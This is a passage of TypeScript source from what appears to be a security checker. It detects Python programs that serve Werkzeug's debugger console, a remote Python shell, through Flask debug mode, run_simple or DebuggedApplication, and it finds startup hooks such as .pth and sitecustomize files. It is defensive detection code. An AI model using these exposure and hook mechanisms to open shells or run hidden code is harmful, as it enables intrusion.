            args !== undefined && /^(?:functools\.)?partial$/.test(pythonResolve(m[2], names).name)
                ? /^\s*([A-Za-z_][\w.]*)\s*(?:,([\s\S]*))?$/.exec(args)
                : null;
        if (bound) partials.set(m[1], { target: bound[1], bound: bound[2] ?? "" });
        if (bound?.[1] !== m[1]) assigned.set(m[1], bound ? bound[1] : m[2]);
        if (m[3] === undefined) results.delete(m[1]);
        else results.add(m[1]);
    }
    // importlib.resources imports the module its anchor names (pythonDynamic: any anchor but a literal is dynamic).
    for (const m of text.matchAll(/(?<![\w.])([A-Za-z_][\w.]*)[ \t]*\([ \t]*(["'])([\w.]+)\2/g))
        if (PYTHON_RESOURCE_CALL.test(pythonResolve(m[1], names).name)) modules.push(m[3]);
    return names;
}

/** A dotted name as the file's imports and aliases resolve it (`serve` → werkzeug.serving.run_simple); `imported` if so. */
function pythonResolve(name: string, names: PythonNames, depth = 0): { name: string; imported: boolean } {
    const [head, ...rest] = name.split(".");
    const imported = names.imports.get(head);
    if (imported !== undefined) return { name: [imported, ...rest].join("."), imported: true };
    const alias = names.assigned.get(head);
    if (alias === undefined || depth >= 8) return { name, imported: false };
    const resolved = pythonResolve(alias, names, depth + 1);
    return { name: [resolved.name, ...rest].join("."), imported: resolved.imported };
}

/** A Python file user data wrote: its text, null when it changed it in a way the pack cannot compute. */
type PythonFile = { path: string; text: string | null };

/**
 * The file of module `module` (`M.py` or `M/__init__.py`) imported by the file at `from`: under the import path `roots`
 * (Python "The Module Search Path": the script's directory, then PYTHONPATH), a relative one under from's package
 * (its directory; each further dot one up). Undefined when user data wrote neither.
 */
function pythonModuleFile(
    module: string,
    from: string,
    roots: readonly string[],
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): PythonFile | undefined {
    const dots = /^\.*/.exec(module)?.[0].length ?? 0;
    const parts = module
        .slice(dots)
        .split(".")
        .filter(p => p !== "");
    const bases = dots > 0 ? [posix.resolve(posix.dirname(from), ...Array<string>(dots - 1).fill(".."))] : roots;
    for (const base of bases)
        for (const path of [
            ...(parts.length > 0 ? [`${posix.join(base, ...parts)}.py`] : []),
            posix.join(base, ...parts, "__init__.py"),
        ]) {
            const text = readConfig(path, fileText, view);
            if (text !== undefined) return { path, text: text === null ? null : pythonCode(text) };
        }
    return undefined;
}

/**
 * Python's startup hooks, files the site module runs at every interpreter start before the program (Python docs "site":
 * in a site directory, "Lines starting with import (followed by space or tab) are executed" of a `.pth` file; "an
 * attempt is made to import a module named sitecustomize", then usercustomize, found on sys.path). Site directories
 * vary by version, distribution and prefix (site-packages, dist-packages, a venv's, the user site), so such a file
 * user data writes anywhere counts: the module in any form (round 67: a package `sitecustomize/__init__.py`, any file
 * under it, compiled `.pyc`/`.so`; Python reference "The import system", regular packages). A `.pth` file is read
 * (pythonImportPass).
 */
const PYTHON_STARTUP_HOOK = /(?:\.pth$|(?:^|\/)(?:site|user)customize(?:\/|\.[^/]*$))/;

/**
 * The directories a file adds to sys.path (Python docs "sys.path": "A program is free to modify this list for its own
 * purposes"; site.addsitedir "Add a directory to sys.path"): `sys.path.insert(I, D)`, `.append(D)`, `.extend([D, ...])`,
 * `site.addsitedir(D)`, each D as pythonPath computes it (first `prepend`, else `append`); undefined when the file
 * changes or hands on sys.path otherwise (an assignment, `+=`, a slice, a D the pack cannot compute: its imports may
 * come from anywhere, fail closed). A membership test `D in sys.path` reads it only.
 */
function pythonSysPath(
    file: { path: string; text: string },
    roots: readonly string[],
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): { prepend: string[]; append: string[] } | undefined {
    const names = pythonNames(file.text);
    const code = pythonStringsBlanked(file.text);
    const imports = [...code.matchAll(PYTHON_FROM_IMPORT), ...code.matchAll(PYTHON_IMPORT)].map(m => [
        m.index ?? 0,
        (m.index ?? 0) + m[0].length,
    ]);
    const out = { prepend: [] as string[], append: [] as string[] };
    const dirs = (expr: string | undefined) =>
        expr === undefined ? undefined : pythonPath(expr, file, roots, fileText, view, undefined);
    for (const m of code.matchAll(/(?<![\w.])[A-Za-z_]\w*(?:[ \t]*\.[ \t]*[A-Za-z_]\w*)*/g)) {
        const at = m.index ?? 0;
        if (imports.some(([s, e]) => at >= s && at < e)) continue;
        const name = pythonResolve(m[0].replace(/[ \t]/g, ""), names).name;
        const site = /^site\.addsitedir$/.test(name);
        const call = /^sys\.path\.(insert|append|extend)$/.exec(name);
        if (!site && !call && !/^sys\.path(?:\.|$)/.test(name)) continue;
        const after = code.slice(at + m[0].length);
        const open = /^\s*\(/.exec(after);
        if ((site || call) && open) {
            const start = at + m[0].length + open[0].length;
            const inner = parenthesized(code, start - 1);
            if (inner === undefined) return undefined;
            const { argument } = pythonCallArguments(file.text.slice(start, start + inner.length));
            const method = site ? "append" : (call as RegExpExecArray)[1];
            let found: string[] | undefined;
            if (method === "extend") {
                const list = /^\s*[[(]([\s\S]*)[\])]\s*$/.exec(argument("iterable", 0) ?? "");
                found = list ? pythonSplit(list[1], ",").flatMap(d => dirs(d) ?? [""]) : undefined;
                if (found?.includes("")) found = undefined;
            } else found = dirs(argument(site ? "sitedir" : "object", method === "insert" ? 1 : 0));
            if (found === undefined) return undefined;
            (method === "insert" ? out.prepend : out.append).push(...found);
            continue;
        }
        const before = code.slice(code.lastIndexOf("\n", at) + 1, at);
        if (name === "sys.path" && /\bin[ \t]+$/.test(before) && !/^[ \t]*(?:\.|\[|=(?!=))/.test(after)) continue;
        return undefined;
    }
    return out;
}

/**
 * The script (and the files `start` runs with it) and every module user data wrote that it imports, transitively
 * (importing a.b runs a/__init__.py too), each as its code without comments (pythonCode, pythonModuleFile), through
 * the import path `roots` with the directories the files add to sys.path (pythonSysPath; an unknown change makes an
 * unread file of the program, text null), and the startup hooks user data wrote (PYTHON_STARTUP_HOOK: code run before
 * the program, unread).
 */
function pythonImportClosure(
    start: readonly PythonFile[],
    startRoots: readonly string[],
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): { files: PythonFile[]; roots: string[] } {
    let roots = [...startRoots];
    // Again while the files add directories: a module imported before the change may be found there.
    for (let pass = 0; ; pass++) {
        const closure = pythonImportPass(start, roots, fileText, view);
        if (pass >= 4 || closure.roots.length === roots.length) return closure;
        roots = closure.roots;
    }
}
function pythonImportPass(
    start: readonly PythonFile[],
    startRoots: readonly string[],
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): { files: PythonFile[]; roots: string[] } {
    const files = start.map(f => ({ path: f.path, text: f.text === null ? null : pythonCode(f.text) }));
    let roots = [...startRoots];
    for (const hook of [...(view.written?.() ?? [])].filter(path => PYTHON_STARTUP_HOOK.test(path)).sort()) {
        // A .pth file's lines (Python docs "site"; CPython site.addpackage): blank lines and `#` lines skipped, "Lines
        // starting with import (followed by space or tab) are executed" (unread code), any other one a directory
        // added to sys.path, relative to the file's site directory, its modules read as any import (appended).
        const text = hook.endsWith(".pth") ? readConfig(hook, fileText, view) : null;
        const lines = typeof text === "string" ? text.split("\n").filter(l => !/^#/.test(l) && l.trim() !== "") : [];
        if (text == null || lines.some(l => /^import[ \t]/.test(l))) files.push({ path: hook, text: null });
        else roots = [...new Set([...roots, ...lines.map(l => posix.resolve(posix.dirname(hook), l.trimEnd()))])];
    }
    for (let i = 0; i < files.length && files.length < 100; i++) {
        const { path, text } = files[i];
        if (text === null) continue;
        const added = pythonSysPath({ path, text }, roots, fileText, view);
        if (added === undefined) files.push({ path: `${path}: sys.path`, text: null });
        else roots = [...new Set([...added.prepend, ...roots, ...added.append])];
        for (const module of pythonNames(text).modules) {
            const dots = /^\.*/.exec(module)?.[0] ?? "";
            const parts = module.slice(dots.length).split(".");
            for (let k = dots === "" ? 1 : 0; k <= parts.length; k++) {
                const found = pythonModuleFile(dots + parts.slice(0, k).join("."), path, roots, fileText, view);
                if (found !== undefined && !files.some(f => f.path === found.path)) files.push(found);
            }
        }
    }
    return { files, roots };
}

/**
 * Where the object `name` of a file is defined, followed through its imports and aliases (pythonResolve) into the
 * modules user data wrote (`from m import *` too): `local` the file and the name there that binds it; `external` the
 * dotted name in a module user data did not write (flask.Flask, settings.DEBUG of an unwritten settings); "unread"
 * when it comes from a module user data changed in a way the pack cannot compute (or a relative one it did not write).
 */
type PythonDefinition = { local: PythonFile & { text: string }; name: string } | { external: string } | "unread";
function pythonDefinition(
    name: string,
    file: PythonFile & { text: string },
    roots: readonly string[],
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
    depth = 0,
): PythonDefinition {
    const names = pythonNames(file.text);
    const resolved = pythonResolve(name, names);
    const inModule = (module: string, attribute: string): PythonDefinition | undefined => {
        const found = pythonModuleFile(module, file.path, roots, fileText, view);
        if (found === undefined) return undefined;
        return found.text === null || depth >= 8
            ? "unread"
            : pythonDefinition(attribute, { path: found.path, text: found.text }, roots, fileText, view, depth + 1);
    };
    if (!resolved.imported) {
        const head = resolved.name.split(".")[0];
        const defined = new RegExp(`(^|;)[ \\t]*(def|class)[ \\t]+${head}\\b|(^|;)[ \\t]*${head}[ \\t]*=(?!=)`, "m");
        if (!defined.test(file.text) && !/^(True|False|None)$/.test(head))
            for (const star of names.stars) {
                const origin = inModule(star, resolved.name);
                if (origin !== undefined) return origin;
                if (!/^(flask|werkzeug)$/.test(star)) return "unread";
            }
        // The name as this file binds it (its assignments, read by pythonOff), not what an alias of it names.
        return { local: file, name };
    }
    const dots = /^\.*/.exec(resolved.name)?.[0] ?? "";
    const parts = resolved.name.slice(dots.length).split(".");
    if (dots === "" && (/^(flask|werkzeug)$/.test(parts[0]) || NOT_FLASK_RUN.test(parts[0])))
        return { external: resolved.name };
    for (let k = parts.length - 1; k >= (dots === "" ? 1 : 0); k--) {
        const origin = inModule(dots + parts.slice(0, k).join("."), parts.slice(k).join("."));
        if (origin !== undefined) return origin;
    }
    return dots === "" ? { external: resolved.name } : "unread";
}

/**
 * Where the object `name` of a file comes from (pythonDefinition): "flask" when it is made in a file naming flask (or
 * is flask's), "unread" when it comes from a module the pack does not read (not written, or changed: it may be a Flask
 * app in debug mode), else "other".
 */
function pythonOrigin(
    name: string,
    file: PythonFile & { text: string },
    roots: readonly string[],
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): "flask" | "unread" | "other" {
    const found = pythonDefinition(name, file, roots, fileText, view);
    if (found === "unread") return "unread";
    if ("external" in found) {
        const head = found.external.split(".")[0];
        return /^(flask|werkzeug)$/.test(head) ? "flask" : NOT_FLASK_RUN.test(head) ? "other" : "unread";
    }
    return /\bflask\b/i.test(found.local.text) ? "flask" : "other";
}

/**
 * Whether a Python value is off: the literal False, None or 0 (PYTHON_OFF), or a name (pythonDefinition: through
 * imports, `from settings import DEBUG`, Python "The import statement" binding the module's value) that its module
 * binds only by plain assignments of such values (Python "Assignment statements"). Any other binding of it (augmented,
 * `:=`, global, for, as, def, class, a tuple target, an attribute assignment `.NAME =` in a file the program reads,
 * any code of pythonDynamic), a module the pack cannot read, or no assignment: not known off (fail closed).
 */
function pythonOff(
    value: string,
    file: PythonFile & { text: string },
    files: readonly PythonFile[],
    roots: readonly string[],
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
    depth = 0,
): boolean {
    const v = value.trim();
    if (PYTHON_OFF.test(v)) return true;
    if (!/^[A-Za-z_][\w.]*$/.test(v) || depth >= 8) return false;
    const found = pythonDefinition(v, file, roots, fileText, view);
    if (found === "unread" || "external" in found || !/^\w+$/.test(found.name)) return false;
    const n = found.name;
    const texts = [found.local.text, ...files.filter(f => f.path !== found.local.path).map(f => f.text)];
    if (texts.some(t => t === null || pythonDynamic(t))) return false;
    const assignment = new RegExp(String.raw`(?:^|;)[ \t]*${n}[ \t]*(?::[^=\n;]*)?=(?!=)[ \t]*([^\n;#]*)`, "gm");
    const otherBinding = (text: string) =>
        new RegExp(
            [
                String.raw`(?<![\w.])${n}\s*(:=|[-+*/%&|^@]=|<<=|>>=|\*\*=|//=)`,
                String.raw`\b(global|nonlocal|as|for|def|class)\s+([\w\s,]*,\s*)?${n}\b`,
                String.raw`\.${n}\s*=(?!=)`,
                String.raw`(?<![\w.]|[(,]\s*)${n}[ \t]*=(?!=)`,
            ].join("|"),
        ).test(text.replace(assignment, "")) ||
        // A tuple or starred target naming it: `DEBUG, X = ...`, `(A, DEBUG) = ...` (no call's keywords).
        [...text.matchAll(/(?:^|;)[ \t]*([\w \t,.*()[\]]+?)=(?!=)/gm)].some(
            m => m[1].includes(",") && !/\w\s*\(/.test(m[1]) && new RegExp(String.raw`\b${n}\b`).test(m[1]),
        );
    // Its module binds it only by plain assignments; no other file the program reads binds or sets it at all.
    if (otherBinding(found.local.text)) return false;
    if (texts.slice(1).some(t => otherBinding(t ?? "") || new RegExp(assignment.source, "m").test(t ?? "")))
        return false;
    const assigned = [...found.local.text.matchAll(assignment)].map(m => m[1]);
    return (
        assigned.length > 0 && assigned.every(a => pythonOff(a, found.local, files, roots, fileText, view, depth + 1))
    );
}

/**
 * `python SCRIPT` whose text user data wrote serves Werkzeug's debugger console, a served shell ("allows the execution
 * of arbitrary code", Werkzeug "Debugging Applications"), or `python -m flask ...` (flaskDebuggerListeners):
 * - Flask's `app.run(host, port, debug, ...)`: flask/app.py Flask.run loads .flaskenv/.env (cli.load_dotenv), then "if
 *   "FLASK_DEBUG" in os.environ: self.debug = get_debug_flag()", then a `debug` argument "overrides all other
 *   sources", then `options.setdefault("use_debugger", self.debug)`; host "Defaults to '127.0.0.1'". Debug mode is
 *   thus the call's `debug`, else FLASK_DEBUG (`environmentDebug`, the program's environment: environmentListeners;
 *   else the dotenv files), else what the code set (flaskCodeDebug), in the file or a module it imports (importing
 *   runs the module; the file's own setting wins unless a module's name is used after it);
 * - Werkzeug's `run_simple(hostname, port, application, use_debugger=True)` (Werkzeug "Serving WSGI Applications":
 *   "use_debugger – should the werkzeug debugging system be used", use_evalex default True);
 * - a `DebuggedApplication(app, evalex=True)` (Werkzeug "Debugging Applications": "The evalex keyword argument allows
 *   evaluating expressions in a traceback's frame context"), served by either on the host of the call, or by any
 *   other WSGI server the program runs (waitress, wsgiref ...) on every host its calls name (pythonServedHosts).
 * The program is the script, `-m MODULE` or `-c COMMAND` (pythonEntry); a name bound to functools.partial is its
 * callable called with the bound arguments first; a value is off when False, None, 0 or a name bound only to such
 * (pythonOff: `from settings import DEBUG` with DEBUG = False there).
 * The script is read with the modules user data wrote that it imports (pythonImportClosure), their calls too, each
 * name through its imports and aliases (pythonResolve: `from werkzeug.serving import run_simple as serve`). A `.run`
 * whose object is made in a file naming flask is Flask's; one from a module the pack does not read (pythonOrigin) and
 * given a host or port may be a Flask app in debug mode (fail closed). `use_evalex=False` keeps tracebacks without
 * the console. A host that is no literal is every address.
 */
function flaskScriptListeners(
    args: readonly string[],
    cwd: string | undefined,
    _: string,
    fileText?: (path: string) => string | undefined,
    view: ScriptView = NO_VIEW,
    environmentDebug?: string,
): Listener[] {
    const entry = pythonEntry(args, cwd, fileText, view);
    if (entry === undefined) return [];
    if ("flask" in entry) return flaskDebuggerListeners(entry.flask, cwd, fileText, view);
    const { label: script, path: scriptPath } = entry;
    const { files, roots } = pythonImportClosure(entry.files, entry.roots, fileText, view);
    const read = files.flatMap(f => (f.text === null ? [] : [{ path: f.path, text: f.text }]));
    /** A value known off (pythonOff: False, None, 0, or a name bound only to such) in `file`. */
    const isOff = (value: string, file: PythonFile & { text: string }) =>
        pythonOff(value, file, files, roots, fileText, view);
    /** A file's calls, nested ones too: the callee as its imports resolve it, and the arguments. */
    const callsOf = (file: { text: string }) => {
        const names = pythonNames(file.text);
        return [
            ...file.text.matchAll(/(?<![\w.])(?<!\bdef\s+)([A-Za-z_][\w.]*)\s*\((?=([^()]*(?:\([^()]*\)[^()]*)*)\))/g),
        ].map(m => {
            // A name bound to functools.partial(f, ...) (pythonNames partials) is a call of f, the bound arguments first.
            let [name, call] = [m[1], m[2]];
            for (let depth = 0, p = names.partials.get(name); p !== undefined && depth < 8; depth++) {
                [name, call] = [p.target, [p.bound, call].filter(a => a.trim() !== "").join(", ")];
                p = names.partials.get(name);
            }
            const callee = pythonResolve(name, names).name;
            // functools.partial(f, *args, **keywords) itself, wherever its result is called (Python "functools.partial"):
            // read as a call of f with those arguments, so options bound there count.
            const bound = /^(?:functools\.)?partial$/.test(callee)
                ? /^\s*([A-Za-z_][\w.]*)\s*(?:,([\s\S]*))?$/.exec(call)
                : null;
            return bound
                ? { name: bound[1], callee: pythonResolve(bound[1], names).name, call: bound[2] ?? "" }
                : { name, callee, call };
        });
    };
    // Werkzeug "Debugging Applications": DebuggedApplication(app, evalex=False, ...), evalex its second argument.
    const evalexApp = read.some(file =>
        callsOf(file).some(({ callee, call }) => {
            if (callee.split(".").at(-1) !== "DebuggedApplication") return false;
            const evalex = pythonCallArguments(call).argument("evalex", 1);
            return evalex !== undefined && !isOff(evalex, file);
        }),
    );
    // FLASK_DEBUG: the program's environment, else the dotenv files app.run loads (one the pack cannot compute: on).
    const dotenvFiles = flaskDotenvFiles([], cwd, fileText, view);
    const dotenvDebug = dotenvFiles.some(f => view.changed.has(f))
        ? "1"
        : dotenvFiles
              .flatMap(f => environmentFileVariables(fileText?.(f) ?? ""))
              .filter(v => v.name === "FLASK_DEBUG")
              .at(-1)?.value;
    // The program's own os.environ writes come before app.run reads FLASK_DEBUG: one turning it on wins (fail closed:
    // the pack does not order them against the environment it was given), else one setting it off.
    const inCode = flaskEnvironmentDebug(read.map(f => f.text));
    const flaskDebug = inCode.on ? "1" : (environmentDebug ?? dotenvDebug ?? (inCode.set ? "0" : undefined));
    const environment = flaskDebug === undefined ? undefined : /^(?!(0|false|no)$)./i.test(flaskDebug);
    const listeners = read.flatMap(file => {
        const flask = /\bflask\b/i.test(file.text);
        // What the modules it imports set (one changed in place may set anything: on), then its own setting.
        const others = files
            .filter(f => f.path !== file.path)
            .map(f =>
                f.text === null ? { on: true } : flaskCodeDebug(f.text, v => isOff(v, { ...f, text: f.text ?? "" })),
            );
        const moduleDebug = others.some(s => s?.on) ? true : others.some(s => s !== undefined) ? false : undefined;
        const own = flaskCodeDebug(file.text, v => isOff(v, file));
        const after = own === undefined ? "" : file.text.slice(own.index);
        const moduleUsedAfter =
            /(^|;)[ \t]*(from|import)\b/m.test(after) ||
            [...pythonNames(file.text).imports.keys()].some(name =>
                new RegExp(`(?<![\\w.])${name}\\b(?!\\s*\\.(run|debug|config)\\b)`).test(after),
            );
        // A module the pack does not read that made the app (unread) may have set it on.
        const codeDebug = (unread: boolean) => {
            const modules = unread || moduleDebug;
            return own === undefined || (modules === true && moduleUsedAfter) ? modules : own.on;
        };
        const where = file.path === scriptPath ? script : `${script} (importing ${file.path})`;
        return callsOf(file).flatMap(({ name, callee, call }): Listener[] => {
            const last = callee.split(".").at(-1);
            if (last !== "run_simple" && !(last === "run" && name.includes("."))) return [];
            const { positional, keyword, argument } = pythonCallArguments(call);
            // run_simple(hostname, port, application, use_reloader, use_debugger, use_evalex, ...) (Werkzeug "Serving
            // WSGI Applications"); Flask.run(host, port, debug, load_dotenv, **options) passes the others by keyword.
            const position = (option: string) =>
                last !== "run_simple" ? undefined : { use_debugger: 4, use_evalex: 5 }[option];
            const on = (option: string) => {
                const given = argument(option, position(option));
                return given !== undefined && !isOff(given, file);
            };
            const off = (option: string) => isOff(argument(option, position(option)) ?? "", file);
            if (last === "run_simple") {
                const shell = (on("use_debugger") && !off("use_evalex")) || evalexApp;
                const binds = pythonHostBinds(argument("hostname", 0), []);
                return shell
                    ? [
                          {
                              server: `${where}: Werkzeug run_simple with its debugger (a Python console)`,
                              binds,
                              serves: { shell: "sh" },
                          },
                      ]
                    : [];
            }
            const receiver = name.slice(0, -".run".length);
            const resolvedReceiver = callee.slice(0, -".run".length);
            if (
                NOT_FLASK_RUN.test(receiver.split(".").at(-1) ?? "") ||
                NOT_FLASK_RUN.test(resolvedReceiver.split(".")[0])
            )
                return [];
            const origin = pythonOrigin(receiver, file, roots, fileText, view);
            // Given a host or port, as Flask.run(host, port, ...) is; isAddress: an address literal as its host.
            const serving =
                keyword.has("host") ||
                keyword.has("port") ||
                positional.length >= 2 ||
                isAddress((positional[0] ?? "").replace(/^(["'])(.*)\1$/, "$2"));
            const unread = origin === "unread" && serving;
            if (!(flask || keyword.has("debug") || origin === "flask" || unread)) return [];
            const debugArgument = argument("debug", 2);
            const debug =
                debugArgument !== undefined ? !isOff(debugArgument, file) : (environment ?? codeDebug(unread) ?? false);
            const debugger_ = argument("use_debugger") !== undefined ? on("use_debugger") : debug;
            if (!((debugger_ && !off("use_evalex")) || evalexApp)) return [];
            return [
                {
                    server: `${where}: app.run in debug mode, Werkzeug's debugger (a Python console)`,
                    binds: pythonHostBinds(argument("host", 0), ["127.0.0.1"]),
                    serves: { shell: "sh" },
                },
            ];
        });
    });
    if (!evalexApp) return listeners;
    // DebuggedApplication is WSGI middleware: any WSGI server the program runs serves its console, not only run_simple
    // (Werkzeug "Debugging Applications": "This middleware can be wrapped around any WSGI application"). Its hosts are
    // every host a call names (pythonServedHosts); none: the run calls above, else every address.
    const hosts = read.flatMap(file => callsOf(file).flatMap(({ callee, call }) => pythonServedHosts(callee, call)));
    if (hosts.length === 0 && listeners.length > 0) return listeners;
    return [
        ...listeners,
        {
            server: `${script}: a Werkzeug DebuggedApplication(evalex=True) it serves (a Python console)`,
            binds: hosts.length === 0 ? ["0.0.0.0"] : hosts,
            serves: { shell: "sh" },
        },
    ];
}

/**
 * FLASK_DEBUG as a program sets it in its own environment (Python "os.environ": "a mapping object ... Modifying it
 * changes the environment"), which Flask.run reads (flask/app.py: `if "FLASK_DEBUG" in os.environ: self.debug =
 * get_debug_flag()`; get_debug_flag: on unless "0", "false" or "no"): `environ["FLASK_DEBUG"] = V`,
 * `environ.setdefault("FLASK_DEBUG", V)`, `environ.update(FLASK_DEBUG=V)` or a mapping literal naming it, `environ |=`
 * alike. `set` when it writes it; `on` when a value is on, or is no string literal, or a write names a key the pack
 * cannot read (`environ[name] = ...`, `environ.update(mapping)`): it may be FLASK_DEBUG (fail closed).
 */
function flaskEnvironmentDebug(texts: readonly string[]): { set: boolean; on: boolean } {
    const values: (string | undefined)[] = [];
    for (const text of texts) {
        for (const m of text.matchAll(/(?<![\w])environ\s*\[\s*([^\]\n]*?)\s*\]\s*=(?!=)\s*([^\n;#]*)/g))
            if (pythonString(m[1]) === "FLASK_DEBUG" || pythonString(m[1]) === undefined) values.push(m[2]);
        for (const m of text.matchAll(/(?<![\w])environ\.setdefault\s*\(\s*([^,)\n]*?)\s*,\s*([^)\n]*)\)/g))
            if (pythonString(m[1]) === "FLASK_DEBUG" || pythonString(m[1]) === undefined) values.push(m[2]);
        for (const m of text.matchAll(/(?<![\w])environ\s*(?:\.update\s*\(|\|=\s*)([^)\n]*)/g)) {
            const literal = /^\s*\{([^{}]*)\}\s*$/.exec(m[1]);
            const items = literal
                ? [...literal[1].matchAll(/([^,:]+):\s*([^,]+)/g)].map(i => ({ key: pythonString(i[1]), value: i[2] }))
                : [...pythonCallArguments(m[1]).keyword].map(([key, value]) => ({ key, value }));
            const mapping = !literal && pythonCallArguments(m[1]).positional.length + (m[1].includes("**") ? 1 : 0) > 0;
            if (mapping) values.push(undefined);
            for (const { key, value } of items) if (key === "FLASK_DEBUG" || key === undefined) values.push(value);
        }
    }
    const on = (value: string | undefined) => {
        const text = pythonString(value);
        return text === undefined || /^(?!(0|false|no)$)./i.test(text);
    };
    return { set: values.length > 0, on: values.some(on) };
}

/** Keyword arguments naming where a Python server listens (waitress, wsgiref, gevent, cheroot, bjoern, eventlet ...). */
const PYTHON_HOST_KEYWORD = /^(host|hostname|listen|bind|bind_addr|address|addr|interface|listener)$/;

/**
 * The hosts a Python call names as where it listens: a PYTHON_HOST_KEYWORD argument (a string literal, its
 * space-separated items: waitress "listen: ... a quoted, space-delimited list"; a `(HOST, PORT)` tuple's host; any
 * other value every address), an address literal or a `(HOST, PORT)` tuple among its positional arguments (wsgiref
 * make_server(host, port, app): "" every address), and waitress.serve given neither host nor listen (waitress
 * "Arguments to waitress.serve": host "Default: 0.0.0.0").
 */
function pythonServedHosts(callee: string, call: string): string[] {
    const { positional, keyword } = pythonCallArguments(call);
    const literal = (value: string) => /^\s*(["'])(.*)\1\s*$/.exec(value)?.[2];
    const tuple = (value: string) => {
        const m = /^\(\s*(["'])(.*?)\1\s*,\s*\d+\s*\)$/.exec(value.trim());
        return m === null ? undefined : m[2] === "" ? "0.0.0.0" : m[2];
    };
    const named = [...keyword].flatMap(([key, value]) => {
        if (!PYTHON_HOST_KEYWORD.test(key)) return [];
        const text = literal(value);
        if (text !== undefined) return text.trim() === "" ? ["0.0.0.0"] : text.trim().split(/\s+/);
        return [tuple(value) ?? "0.0.0.0"];
    });
    const given = positional.flatMap((value, i) => {
        const text = literal(value);
        if (text === "" && /^\s*\d+\s*$/.test(positional[i + 1] ?? "")) return ["0.0.0.0"];
        if (text !== undefined) return isAddress(text) || /^localhost(:\d+)?$/i.test(text) ? [text] : [];
        const host = tuple(value);
        return host === undefined ? [] : [host];
    });
    const waitress = /^waitress\.serve$/.test(callee) && !keyword.has("host") && !keyword.has("listen");
    return [...named, ...given, ...(waitress ? ["0.0.0.0"] : [])];
}

/**
 * Python modules with http.server's command line (`[port] [--bind ADDR] [--directory DIR]`) and request handlers:
 * http.server, Python 2's SimpleHTTPServer and CGIHTTPServer, and its extensions RangeHTTPServer (danvk/RangeHTTPServer,
 * "SimpleHTTPServer with support for Range requests": `python -m RangeHTTPServer` "Serving HTTP on 0.0.0.0 port 8000")
 * and uploadserver (Densaugeo/uploadserver, "Python's http.server extended to include a file upload page", "Accepts the
 * same options as http.server").
 */
/**
 * The long options of http.server's command line (Python docs "http.server": --bind, --directory, --protocol, --cgi;
 * 3.14's --tls-cert, --tls-key, --tls-password-file) and of its extensions (uploadserver's --token,
 * --server-certificate, --client-certificate, --basic-auth, --basic-auth-upload, --theme), read by argparse.
 */
const HTTP_SERVER_LONG_OPTIONS = (module: string) => [
    ...["bind", "directory", "protocol", "cgi", "help", "tls-cert", "tls-key", "tls-password-file"],
    ...(module === "uploadserver"
        ? [
              "token",
              "server-certificate",
              "certificate",
              "client-certificate",
              "basic-auth",
              "basic-auth-upload",
              "theme",
          ]
        : []),
];
const HTTP_SERVER_MODULES = /^(http\.server|SimpleHTTPServer|CGIHTTPServer|RangeHTTPServer|uploadserver)$/;

/**
 * A request handler class that serves the files of a directory (Python docs "http.server": SimpleHTTPRequestHandler
 * "serves files from the directory *directory* and below, or the current directory if *directory* is not provided";
 * CGIHTTPRequestHandler is one that also runs its cgi-bin scripts; RangeHTTPServer's RangeRequestHandler extends it).
 */
const pythonFileHandler = (resolved: string) =>
    HTTP_SERVER_MODULES.test(resolved.slice(0, resolved.lastIndexOf("."))) &&
    /^((Simple|CGI)HTTPRequestHandler|RangeRequestHandler)$/.test(resolved.split(".").at(-1) ?? "");

/**
 * Calls of Python APIs that serve the files of a directory named by an argument (its name and position), in a program
 * whose files name `family`:
 * - Twisted "Serving Static Content From a Directory": `File("/var/www/mysite")` (twisted.web.static.File(path));
 * - aiohttp "Static file handling": `app.router.add_static(prefix, path)`, `web.static(prefix, path)`;
 * - Sanic "Static files": `app.static(uri, file_or_directory)`; Bottle "Routing Static Files": `static_file(filename,
 *   root)` (its route passes any path); Falcon "App.add_static_route(prefix, directory)": "Add a route to a directory
 *   of static files";
 * - Starlette "Static Files": `StaticFiles(directory=None, packages=None, ...)` (FastAPI's is Starlette's);
 * - pyftpdlib "Tutorial": `authorizer.add_user(username, password, homedir, perm)`, `add_anonymous(homedir)`;
 * - WhiteNoise "Usage": `WhiteNoise(application, root=None, ...)`, `add_files(root, prefix=None)`;
 * - Werkzeug "Middleware": `SharedDataMiddleware(app, exports)`, exports a dict of URL to path (dictValues);
 * - Flask API "Application Object": `Flask(import_name, static_url_path=None, static_folder='static', ...)`,
 *   "static_folder – The folder with static files that is served at static_url_path. Relative to the application
 *   root_path" (the module's directory: `module`), and `Blueprint(name, import_name, static_folder=None, ...)` alike;
 *   the default `static` beside the module is the app's own (an assignment `.static_folder = DIR` is read besides);
 * - Tornado "tornado.web": `Application(handlers, **settings)` with the `static_path` setting, "Directory from which
 *   static files will be served" (a keyword only); StaticFileHandler in a URL spec is read besides;
 * - Flask API "send_from_directory(directory, path, **kwargs)": "Send a file from within a directory ... a secure way to
 *   serve files from a folder" (safe_join keeps `path` inside `directory`, so any file in it is served), "directory –
 *   The directory that path must be located under, relative to the current application's root path"; Werkzeug's
 *   `werkzeug.utils.send_from_directory(directory, path, environ, **kwargs)` relative to the working directory.
 */
const PYTHON_STATIC_APIS: {
    callee: RegExp;
    family: RegExp;
    argument: [string, number | undefined];
    dictValues?: true;
    module?: true;
}[] = [
    { callee: /(^|\.)static\.File$/, family: /\btwisted\b/, argument: ["path", 0] },
    { callee: /(^|\.)(add_static|static)$/, family: /\baiohttp\b/, argument: ["path", 1] },
    { callee: /(^|\.)static$/, family: /\bsanic\b/, argument: ["file_or_directory", 1] },
    { callee: /(^|\.)static_file$/, family: /\bbottle\b/, argument: ["root", 1] },
    { callee: /(^|\.)add_static_route$/, family: /\bfalcon\b/, argument: ["directory", 1] },
    { callee: /(^|\.)StaticFiles$/, family: /\b(starlette|fastapi)\b/, argument: ["directory", 0] },
    { callee: /(^|\.)add_anonymous$/, family: /\bpyftpdlib\b/, argument: ["homedir", 0] },
    { callee: /(^|\.)add_user$/, family: /\bpyftpdlib\b/, argument: ["homedir", 2] },
    { callee: /(^|\.)WhiteNoise$/, family: /\bwhitenoise\b/, argument: ["root", 1] },
    { callee: /(^|\.)add_files$/, family: /\bwhitenoise\b/, argument: ["root", 0] },
